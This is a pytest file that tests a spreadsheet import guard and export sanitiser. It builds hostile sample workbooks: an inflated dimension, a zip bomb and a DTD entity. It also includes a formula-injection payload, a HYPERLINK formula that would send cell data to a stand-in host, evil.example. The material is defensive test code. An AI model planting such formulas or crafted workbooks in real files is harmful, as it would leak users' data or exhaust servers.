"""Inflated and bombed workbooks are refused before openpyxl does the work; exports hold text only."""

from __future__ import annotations

import io
import re
import time
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from luoshi_tasking.spreadsheets.columns import EXPORT_COLUMNS
from luoshi_tasking.spreadsheets.guard import Limits
from luoshi_tasking.spreadsheets.xlsx import WorkbookRefused, parse_task_workbook, safe_cell, write_ledger

HEADERS = ["任务名称", "牵头单位代码", "完成时限"]


def _rewrite_sheet(data: bytes, change: Any) -> bytes:
    """The same workbook with ``xl/worksheets/sheet1.xml`` passed through ``change``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for item in source.infolist():
            body = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = change(body)
            dest.writestr(item, body)
    return out.getvalue()


def inflated_workbook(*, dimension: str = "A1:XFD20000", last_row: int = 20000) -> bytes:
    """The attack of issue 8: a header, one cell at ``last_row`` and an inflated ``<dimension>``."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    ws.cell(row=last_row, column=1, value="x")
    raw = io.BytesIO()
    wb.save(raw)
    return _rewrite_sheet(
        raw.getvalue(),
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), xml),
    )


def test_the_inflated_file_of_the_report_is_refused_fast() -> None:
    data = inflated_workbook()
    assert len(data) < 8 * 1024  # ~6 KB, as in the report
    start = time.perf_counter()
    with pytest.raises(WorkbookRefused) as refused:
        parse_task_workbook(data)
    assert time.perf_counter() - start < 1.0  # was 18 s on the event loop
    assert refused.value.status == 413 and refused.value.slug == "import-too-large"
    assert "16384" in refused.value.detail or "20000" in refused.value.detail


def test_a_declared_dimension_alone_is_refused() -> None:
    with pytest.raises(WorkbookRefused) as refused:
        parse_task_workbook(inflated_workbook(dimension="A1:XFD3", last_row=3))
    assert refused.value.status == 413 and "16384" in refused.value.detail


def test_an_understated_dimension_does_not_hide_the_real_size() -> None:
    with pytest.raises(WorkbookRefused) as refused:
        parse_task_workbook(inflated_workbook(dimension="A1:C2", last_row=20000))
    assert refused.value.status == 413 and "20000" in refused.value.detail


def test_a_zip_bomb_is_refused_by_its_compression_ratio() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    raw = io.BytesIO()
    wb.save(raw)
    bombed = _rewrite_sheet(
        raw.getvalue(), lambda xml: xml.replace(b"</worksheet>", b" " * (8 << 20) + b"</worksheet>")
    )
    assert len(bombed) < 100 * 1024
    with pytest.raises(WorkbookRefused) as refused:
        parse_task_workbook(bombed)
    assert refused.value.status == 413 and "zip bomb" in refused.value.detail


def test_a_dtd_is_refused() -> None:
    wb = Workbook()
    raw = io.BytesIO()
    wb.save(raw)
    with_dtd = _rewrite_sheet(raw.getvalue(), lambda xml: b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + xml)
    with pytest.raises(WorkbookRefused) as refused:
        parse_task_workbook(with_dtd)
    assert refused.value.status == 422 and "DTD" in refused.value.detail


def test_the_time_cap_stops_a_slow_parse() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    for n in range(2000):
        ws.append([f"任务{n}", "520102000000", "2030-01-01"])
    raw = io.BytesIO()
    wb.save(raw)
    with pytest.raises(WorkbookRefused) as refused:
        parse_task_workbook(raw.getvalue(), limits=Limits(seconds=0.0))
    assert refused.value.slug == "import-too-slow"


def test_safe_cell_neutralises_formulas_and_drops_what_xml_cannot_hold() -> None:
    assert safe_cell('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")').startswith("'=")
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert safe_cell("a\x00b\x1fc\ufffe") == "abc"
    assert safe_cell("普通文本") == "普通文本" and safe_cell(42) == 42


def test_a_ledger_holds_formula_like_titles_as_text() -> None:
    row: list[Any] = [None] * len(EXPORT_COLUMNS)
    row[2] = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    row[3] = "a\x00b"
    ws = load_workbook(io.BytesIO(write_ledger([row], title="台账"))).active
    assert ws is not None
    cell = ws.cell(row=3, column=3)
    assert cell.data_type == "s" and str(cell.value).startswith("'=HYPERLINK")
    assert ws.cell(row=3, column=4).value == "ab"
